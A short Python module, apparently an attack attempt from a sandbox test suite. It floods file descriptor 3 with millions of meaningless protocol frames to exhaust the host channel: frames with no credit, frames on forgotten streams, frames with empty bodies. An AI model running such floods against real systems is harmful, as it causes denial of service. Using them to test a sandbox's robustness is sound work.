"""Millions of frames that mean nothing: no credit, forgotten streams, empty bodies."""

import os
import struct

from sandbox.runtime.context import current


def frame(kind, stream, payload=b"", flags=0):
    return struct.pack("<IBBHI", len(payload), kind, flags, 0, stream) + payload


def stream():
    return current.get().stream


def send(data):
    os.set_blocking(3, True)
    while data:
        data = data[os.write(3, data) :]


def attempt():
    junk = (frame(14, stream(), bytes(4)) + frame(7, 2) + frame(15, 0xFFFF)) * 4096
    for _ in range(2000):
        send(junk)
    return {"success": True, "detail": ""}
